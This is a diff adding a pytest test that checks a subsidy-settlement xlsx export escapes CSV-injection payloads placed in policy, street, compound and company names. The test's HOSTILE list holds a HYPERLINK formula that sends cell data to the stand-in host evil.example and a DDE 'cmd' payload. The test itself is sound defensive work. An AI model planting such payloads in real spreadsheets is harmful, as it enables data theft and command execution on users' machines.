@@ -503,3 +503,33 @@ def test_a_city_budget_past_21_million_yuan_is_kept_to_the_fen(api, world):
 
     assert response.status_code == 201
     assert db.session.get(SubsidyPolicy, response.json["id"]).budget_fen == 5_000_000_001
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+           "\t=1+1", "\r=1+1"]
+
+
+def test_no_name_in_the_xlsx_becomes_a_formula(api, world, settled):
+    """Every text an official or the ledger controls (policy, street, compound, company) is written as text
+    that a spreadsheet shows and never runs (OWASP CSV injection), read back with openpyxl."""
+    policy = db.session.get(SubsidyPolicy, settled["policy_id"])
+    named = [policy, world.street, world.other_street, world.a, world.b, world.c,
+             db.session.get(PropertyCompany, world.a.property_company_id),
+             db.session.get(PropertyCompany, world.c.property_company_id)]
+    for thing, name in zip(named, HOSTILE + HOSTILE, strict=False):
+        thing.name = name
+    db.session.commit()
+
+    response = api("GET", SETTLEMENT + ".xlsx", world.district_official, query_string={"area_id": world.district.id})
+
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.data))
+    texts = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert not [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row
+                if cell.data_type == "f"]
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # XML keeps no bare CR: it reads back as a line feed.
+    for name in HOSTILE:
+        assert "'" + name.replace("\r", "\n") in texts, name
+    rows = read_table(book["补贴结算"])[1]
+    assert {row[2] for row in rows} == {"'" + compound.name.replace("\r", "\n") for compound in (world.a, world.b, world.c)}
